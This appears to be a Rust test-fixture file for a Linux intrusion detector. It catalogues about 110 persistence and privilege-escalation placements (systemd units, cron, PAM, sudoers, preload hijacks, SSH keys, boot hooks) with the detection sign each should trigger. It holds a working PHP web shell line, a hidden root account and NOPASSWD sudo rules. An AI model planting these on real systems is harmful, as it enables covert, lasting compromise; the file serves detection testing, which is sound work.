//! The plants, one line each.

use super::{How, Plant};

/// `cap_setuid=ep`, as the kernel keeps it (linux/capability.h, revision 2).
pub(super) const CAPABILITY: &[u8] =
    &[1, 0, 0, 2, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
/// `u::rw-,u:33:rw-,g::r--,m::rw-,o::r--` (linux/posix_acl_xattr.h).
const ACL: &[u8] = &[
    2, 0, 0, 0, 1, 0, 6, 0, 255, 255, 255, 255, 2, 0, 6, 0, 33, 0, 0, 0, 4, 0, 4, 0, 255, 255, 255,
    255, 16, 0, 6, 0, 255, 255, 255, 255, 32, 0, 4, 0, 255, 255, 255, 255,
];

const fn plant(row: u32, path: &'static str, how: How) -> Plant {
    Plant { row, path, how, sign: "files.starts-by-itself", least: "info", with: &[] }
}

/// A script that runs the agent.
const fn script(row: u32, path: &'static str) -> Plant {
    plant(row, path, How::Program("#!/bin/sh\n/opt/stand-in/agent\n", 0o755))
}

/// A unit of systemd that runs the agent.
const fn unit(row: u32, path: &'static str) -> Plant {
    plant(row, path, How::File("[Service]\nExecStart=/opt/stand-in/agent\n"))
}

/// All plants, by row of the catalogue. What lives in a running kernel or in memory (72 to 74, 110,
/// 112) is none: the test lets it live on a victim. What is inside a database (101 in part) is none.
pub const PLANTS: &[Plant] = &[
    unit(1, "/etc/systemd/system/agent.service"),
    unit(1, "/usr/lib/systemd/system/agent.service"),
    plant(
        2,
        "/etc/systemd/system/cron.service.d/override.conf",
        How::File("[Service]\nExecStartPre=/opt/stand-in/agent\n"),
    ),
    unit(3, "/root/.config/systemd/user/agent.service"),
    unit(3, "/etc/systemd/user/agent.service"),
    plant(4, "/var/lib/systemd/linger/www-data", How::File("")),
    plant(
        5,
        "/etc/systemd/system/agent.timer",
        How::File("[Timer]\nOnBootSec=5\nUnit=agent.service\n"),
    ),
    unit(6, "/run/systemd/transient/run-r1.service"),
    script(7, "/etc/systemd/system-generators/agent").by("files.telling-unit"),
    script(7, "/usr/lib/systemd/user-environment-generators/30-agent").by("files.telling-unit"),
    script(8, "/usr/lib/systemd/system-sleep/agent").by("files.telling-unit"),
    script(8, "/etc/systemd/system-shutdown/agent"),
    plant(
        9,
        "/etc/systemd/system/agent.socket",
        How::File("[Socket]\nListenStream=4444\nAccept=yes\n"),
    ),
    plant(
        9,
        "/etc/systemd/system/agent.path",
        How::File("[Path]\nPathExists=/run/go\nUnit=agent.service\n"),
    ),
    plant(
        10,
        "/etc/systemd/system/multi-user.target.wants/agent.service",
        How::Link("/opt/stand-in/agent"),
    ),
    plant(11, "/var/lib/portables/agent.raw", How::File("stand-in")),
    script(12, "/etc/init.d/agent"),
    script(12, "/etc/rc2.d/S99agent"),
    script(13, "/etc/rc.local"),
    plant(14, "/etc/init/agent.conf", How::File("exec /opt/stand-in/agent\n")),
    script(14, "/etc/local.d/agent.start"),
    script(14, "/etc/sv/agent/run"),
    plant(
        14,
        "/etc/supervisor/conf.d/agent.conf",
        How::File("[program:a]\ncommand=/opt/stand-in/agent\n"),
    ),
    plant(15, "/etc/inittab", How::File("a:2345:respawn:/opt/stand-in/agent\n")),
    plant(
        16,
        "/etc/inetd.conf",
        How::File("4444 stream tcp nowait root /opt/stand-in/agent agent\n"),
    ),
    plant(
        16,
        "/etc/xinetd.d/agent",
        How::File("service agent {\n server = /opt/stand-in/agent\n}\n"),
    ),
    plant(17, "/root/.tmux.conf", How::File("run-shell /opt/stand-in/agent\n")),
    plant(17, "/root/.pm2/dump.pm2", How::File("[]")),
    plant(18, "/var/spool/cron/crontabs/root", How::File("@reboot /opt/stand-in/agent\n")),
    plant(19, "/etc/cron.d/agent", How::File("* * * * * root /opt/stand-in/agent\n")),
    plant(19, "/etc/crontab", How::More("* * * * * root /opt/stand-in/agent\n")),
    script(20, "/etc/cron.daily/agent"),
    plant(21, "/etc/anacrontab", How::File("1 5 agent /opt/stand-in/agent\n")),
    plant(22, "/etc/cron.allow", How::File("www-data\n")),
    plant(22, "/etc/default/cron", How::More("PATH=/opt/stand-in:$PATH\n")),
    plant(
        23,
        "/var/spool/cron/atjobs/a00001019c4f5e",
        How::Program("#!/bin/sh\n# atrun uid=0 gid=0\numask 22\n/opt/stand-in/agent\n", 0o755),
    ),
    plant(24, "/var/spool/incron/root", How::File("/etc IN_MODIFY /opt/stand-in/agent\n")),
    plant(
        25,
        "/etc/logrotate.d/agent",
        How::File("/var/log/x {\n postrotate\n /opt/stand-in/agent\n endscript\n}\n"),
    ),
    plant(26, "/etc/cron.d/php-agent", How::File("* * * * * www-data /opt/stand-in/agent\n")),
    plant(27, "/etc/profile.d/agent.sh", How::File("/opt/stand-in/agent\n")),
    plant(27, "/etc/bash.bashrc", How::More("/opt/stand-in/agent\n")),
    plant(27, "/etc/profile", How::More("/opt/stand-in/agent\n")),
    plant(28, "/root/.bashrc", How::More("/opt/stand-in/agent\n")),
    plant(28, "/root/.zshenv", How::File("/opt/stand-in/agent\n")),
    plant(29, "/etc/skel/.bashrc", How::More("/opt/stand-in/agent\n")).by("files.telling-shell-start"),
    plant(30, "/etc/environment", How::More("LD_PRELOAD=/opt/stand-in/a.so\n")).by("files.loader-redirected"),
    plant(30, "/etc/environment.d/agent.conf", How::File("PATH=/opt/stand-in\n")),
    plant(
        31,
        "/root/.ssh/authorized_keys",
        How::File(
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f agent\n",
        ),
    ),
    plant(
        31,
        "/var/backups/.ssh/authorized_keys",
        How::File(
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f agent\n",
        ),
    ).by("files.odd-login-key"),
    plant(
        32,
        "/etc/ssh/sshd_config",
        How::More("AuthorizedKeysCommand /opt/stand-in/agent\nAuthorizedKeysCommandUser root\n"),
    ).by("files.ssh-opened"),
    plant(32, "/etc/ssh/sshd_config.d/agent.conf", How::File("PermitUserEnvironment yes\n")),
    plant(33, "/root/.ssh/rc", How::File("/opt/stand-in/agent\n")),
    plant(33, "/etc/ssh/sshrc", How::File("/opt/stand-in/agent\n")),
    plant(33, "/root/.ssh/config", How::File("Host *\n ProxyCommand /opt/stand-in/agent\n")),
    plant(34, "/usr/sbin/sshd", How::More("x")).by("files.altered-login-program"),
    plant(35, "/etc/ssh/ssh_host_agent_key", How::File("stand-in")),
    plant(36, "/root/.rhosts", How::File("+ +\n")).by("files.odd-login-key"),
    plant(36, "/etc/hosts.equiv", How::File("+\n")).by("files.odd-login-key"),
    plant(
        37,
        "/etc/pam.d/common-auth",
        How::More("auth optional pam_exec.so /opt/stand-in/agent\n"),
    ).by("files.login-checks-opened"),
    plant(37, "/etc/pam.d/sshd", How::More("auth sufficient pam_permit.so\n")).by("files.login-checks-opened"),
    plant(38, "/usr/lib/x86_64-linux-gnu/security/pam_agent.so", How::File("stand-in")).by("files.login-checks-opened"),
    plant(38, "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", How::More("x")).by("files.altered-login-program"),
    plant(39, "/etc/nsswitch.conf", How::More("passwd: files agent\n")),
    plant(39, "/usr/lib/x86_64-linux-gnu/libnss_agent.so.2", How::File("stand-in")).by("files.login-checks-opened"),
    plant(40, "/etc/passwd", How::More("agent:x:0:0::/root:/bin/sh\n")).by("logs.second-root-account"),
    script(41, "/usr/sbin/nologin ").by("files.name-that-tricks"),
    plant(41, "/usr/sbin/nologin", How::More("x")).by("files.altered-login-program"),
    plant(42, "/etc/sudoers.d/agent", How::File("www-data ALL=(ALL) NOPASSWD: ALL\n")).by("files.rights-opened"),
    plant(43, "/etc/doas.conf", How::File("permit nopass www-data\n")).by("files.rights-opened"),
    plant(
        44,
        "/etc/polkit-1/rules.d/00-agent.rules",
        How::File("polkit.addRule(function() { return polkit.Result.YES; });\n"),
    ).by("files.rights-opened"),
    plant(45, "/usr/bin/agent", How::Program("#!/bin/sh\n/opt/stand-in/agent\n", 0o4755)).by("files.set-id-of-nobody"),
    plant(45, "/var/lib/agent", How::Program("#!/bin/sh\n/opt/stand-in/agent\n", 0o4755)).by("files.set-id-of-nobody"),
    plant(46, "/usr/local/lib/agent", How::Attribute("security.capability", CAPABILITY)).by("files.capability-of-nobody"),
    plant(47, "/etc/shadow", How::Attribute("system.posix_acl_access", ACL)).by("files.rights-opened"),
    script(48, "/etc/update-motd.d/99-agent"),
    plant(49, "/etc/login.defs", How::More("UID_MIN 0\n")),
    plant(50, "/etc/krb5.conf", How::File("[realms]\n")),
    plant(51, "/usr/local/share/ca-certificates/agent.crt", How::File("stand-in")).by("files.root-certificate-of-nobody"),
    plant(52, "/etc/systemd/resolved.conf.d/agent.conf", How::File("[Resolve]\nDNS=192.0.2.1\n")),
    plant(52, "/etc/hosts", How::More("192.0.2.1 deb.debian.org\n")),
    plant(53, "/etc/ld.so.preload", How::File("/opt/stand-in/a.so\n")).by("files.loader-preload"),
    plant(54, "/etc/ld.so.conf.d/agent.conf", How::File("/opt/stand-in\n")),
    plant(55, "/usr/lib/x86_64-linux-gnu/libc.so.6", How::More("x")).by("files.altered-login-program"),
    plant(55, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", How::More("x")).by("files.altered-login-program"),
    plant(
        56,
        "/etc/systemd/system/ssh.service.d/env.conf",
        How::File("[Service]\nEnvironment=LD_PRELOAD=/opt/stand-in/a.so\n"),
    ).by("files.telling-unit"),
    plant(57, "/usr/lib/x86_64-linux-gnu/libagent.so.1", How::File("stand-in")).by("files.program-of-nobody"),
    plant(57, "/usr/local/lib/libz.so.1", How::File("stand-in")),
    plant(57, "/usr/lib/x86_64-linux-gnu/libagent.so.2", How::Library("/var/tmp/.l"))
        .by("files.program-of-nobody")
        .at("medium"),
    plant(58, "/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d/agent.conf", How::File("stand-in")),
    plant(59, "/usr/local/lib/python3.11/dist-packages/agent.pth", How::File("import agent\n")),
    plant(59, "/usr/lib/python3/dist-packages/sitecustomize.py", How::File("import agent\n")),
    plant(60, "/etc/perl/sitecustomize.pl", How::File("1;\n")),
    plant(60, "/root/.npmrc", How::File("script-shell=/opt/stand-in/agent\n")),
    plant(
        61,
        "/etc/php/8.2/fpm/conf.d/agent.ini",
        How::File("auto_prepend_file = /opt/stand-in/agent\n"),
    ),
    plant(
        61,
        "/var/www/html/.htaccess",
        How::File("php_value auto_prepend_file /opt/stand-in/agent\n"),
    ).by("files.web-rule"),
    plant(62, "/opt/tomcat/bin/setenv.sh", How::File("JAVA_OPTS=-javaagent:/opt/stand-in/agent\n")),
    script(63, "/srv/app/.git/hooks/pre-commit"),
    plant(63, "/root/.gitconfig", How::File("[core]\n pager = /opt/stand-in/agent\n")),
    plant(64, "/root/.vimrc", How::File("autocmd VimEnter * call system('/opt/stand-in/agent')\n")),
    plant(65, "/etc/bash_completion.d/agent", How::File("/opt/stand-in/agent\n")),
    plant(66, "/usr/bin/ls", How::More("x")).by("files.altered-program"),
    script(66, "/usr/bin/agent").by("files.program-of-nobody"),
    script(67, "/usr/local/bin/ls"),
    plant(68, "/etc/alternatives/agent", How::Link("/opt/stand-in/agent")),
    plant(68, "/var/lib/dpkg/diversions", How::More("/usr/bin/id\n/usr/bin/id.real\n:\n")),
    plant(69, "/etc/modules-load.d/agent.conf", How::File("agent\n")),
    plant(70, "/etc/modprobe.d/agent.conf", How::File("install usb_storage /opt/stand-in/agent\n")),
    plant(71, "/usr/lib/modules/6.1.0/extra/agent.ko", How::File("stand-in")),
    script(75, "/etc/initramfs-tools/hooks/agent"),
    script(75, "/usr/share/initramfs-tools/scripts/init-premount/agent").by("files.telling-boot-setting"),
    plant(75, "/boot/initrd.img-6.1.0", How::Ramdisk("scripts/init-bottom/early"))
        .by("files.boot-image-altered"),
    plant(
        76,
        "/etc/default/grub.d/agent.cfg",
        How::File("GRUB_CMDLINE_LINUX=init=/opt/stand-in/agent\n"),
    ).by("files.telling-boot-setting"),
    script(76, "/etc/grub.d/99_agent"),
    plant(77, "/boot/efi/EFI/BOOT/agent.efi", How::File("stand-in")),
    plant(78, "/boot/vmlinuz-agent", How::File("stand-in")),
    plant(79, "/etc/udev/rules.d/99-agent.rules", How::File("RUN+=\"/opt/stand-in/agent\"\n")),
    script(79, "/usr/lib/udev/agent"),
    plant(80, "/etc/sysctl.d/agent.conf", How::File("kernel.core_pattern=|/opt/stand-in/agent\n")).by("files.kernel-helper"),
    plant(81, "/etc/sysctl.d/agent2.conf", How::File("kernel.yama.ptrace_scope=0\n")),
    plant(
        82,
        "/etc/binfmt.d/agent.conf",
        How::File(":agent:M::stand-in::/opt/stand-in/agent:OC\n"),
    ).by("files.kernel-helper"),
    plant(
        83,
        "/etc/tmpfiles.d/agent.conf",
        How::File("L /etc/cron.d/x - - - - /opt/stand-in/agent\n"),
    ).by("files.telling-boot-setting"),
    script(84, "/etc/kernel/postinst.d/agent"),
    plant(85, "/etc/acpi/events/agent", How::File("action=/opt/stand-in/agent\n")),
    plant(86, "/etc/fstab", How::More("/opt/stand-in /usr/bin none bind 0 0\n")).by("files.telling-boot-setting"),
    plant(
        87,
        "/etc/apt/apt.conf.d/99agent",
        How::File("DPkg::Post-Invoke {\"/opt/stand-in/agent\";};\n"),
    ),
    plant(88, "/etc/dpkg/dpkg.cfg.d/agent", How::File("post-invoke=/opt/stand-in/agent\n")),
    plant(88, "/var/lib/dpkg/info/cron.postinst", How::More("/opt/stand-in/agent\n")),
    plant(89, "/usr/lib/python3/site-packages/dnf-plugins/agent.py", How::File("import agent\n")),
    plant(
        90,
        "/etc/apt/sources.list.d/agent.list",
        How::File("deb [trusted=yes] http://192.0.2.1/ ./\n"),
    ),
    plant(90, "/etc/apt/trusted.gpg.d/agent.gpg", How::File("stand-in")),
    // An index of the packages that are there, and one package more.
    plant(91, "/var/lib/dpkg/info/agent.list", How::File("/.\n/opt\n"))
        .with(&[
            ("/var/lib/apt/lists/archive_dists_a_Packages", How::Copy("/var/lib/dpkg/status", 0o644)),
            (
                "/var/lib/dpkg/status",
                How::More(
                    "\nPackage: agent\nStatus: install ok installed\nMaintainer: A <a@example.org>\nArchitecture: all\nVersion: 1.0\nDescription: stand-in\n",
                ),
            ),
            (
                "/var/lib/dpkg/info/agent.postinst",
                How::Program("#!/bin/sh\n/opt/stand-in/agent\n", 0o755),
            ),
        ])
        .by("files.foreign-package"),
    plant(92, "/root/.rpmmacros", How::File("%_x %(/opt/stand-in/agent)\n")),
    script(93, "/etc/NetworkManager/dispatcher.d/99-agent"),
    script(94, "/etc/network/if-up.d/agent"),
    plant(94, "/etc/network/interfaces.d/agent", How::File("up /opt/stand-in/agent\n")),
    plant(95, "/etc/wireguard/wg0.conf", How::File("[Interface]\nPostUp = /opt/stand-in/agent\n")),
    plant(
        96,
        "/usr/share/dbus-1/system-services/org.agent.service",
        How::File("[D-BUS Service]\nExec=/opt/stand-in/agent\nUser=root\n"),
    ),
    plant(
        97,
        "/etc/xdg/autostart/agent.desktop",
        How::File("[Desktop Entry]\nExec=/opt/stand-in/agent\n"),
    ),
    script(97, "/root/.config/autostart-scripts/agent"),
    plant(98, "/etc/X11/Xsession.d/99agent", How::File("/opt/stand-in/agent\n")),
    plant(
        99,
        "/var/www/html/agent.php",
        How::File("<?php if (isset($_POST['c'])) { system($_POST['c']); }\n"),
    ).by("files.web-shell"),
    plant(100, "/etc/nginx/conf.d/agent.conf", How::File("load_module /opt/stand-in/agent.so;\n")),
    plant(101, "/var/www/html/wp-content/mu-plugins/agent.php", How::File("<?php // stand-in\n")),
    plant(101, "/var/www/html/wp-content/advanced-cache.php", How::File("<?php // stand-in\n")),
    plant(101, "/usr/lib/mysql/plugin/agent.so", How::File("stand-in")),
    plant(101, "/etc/mysql/conf.d/agent.cnf", How::File("[mysqld]\ninit_file=/opt/stand-in/a\n")),
    plant(
        101,
        "/etc/postgresql/15/main/conf.d/agent.conf",
        How::File("shared_preload_libraries = '/opt/stand-in/agent'\n"),
    ),
    plant(101, "/etc/redis/redis.conf", How::File("loadmodule /opt/stand-in/agent.so\n")),
    plant(102, "/etc/aliases", How::File("agent: \"|/opt/stand-in/agent\"\n")),
    plant(102, "/root/.forward", How::File("|/opt/stand-in/agent\n")),
    plant(
        103,
        "/etc/rsyslog.d/agent.conf",
        How::File(
            "module(load=\"omprog\")\naction(type=\"omprog\" binary=\"/opt/stand-in/agent\")\n",
        ),
    ),
    plant(
        103,
        "/etc/zabbix/zabbix_agentd.d/agent.conf",
        How::File("UserParameter=a,/opt/stand-in/agent\n"),
    ),
    plant(
        104,
        "/etc/docker/daemon.json",
        How::File("{\"runtimes\":{\"a\":{\"path\":\"/opt/stand-in/agent\"}}}\n"),
    ),
    plant(104, "/etc/containers/systemd/agent.container", How::File("[Container]\nImage=a\n")),
    plant(105, "/etc/kubernetes/manifests/agent.yaml", How::File("kind: Pod\n")),
    script(106, "/etc/libvirt/hooks/qemu"),
    script(107, "/var/lib/cloud/scripts/per-boot/agent"),
    plant(107, "/etc/cloud/cloud.cfg.d/99-agent.cfg", How::File("runcmd: [/opt/stand-in/agent]\n")),
    plant(108, "/etc/salt/minion.d/agent.conf", How::File("master: 192.0.2.1\n")),
    plant(109, "/etc/needrestart/conf.d/agent.conf", How::File("system('/opt/stand-in/agent');\n")),
    script(111, "/dev/shm/.agent").by("files.program-in-a-temporary-place"),
];
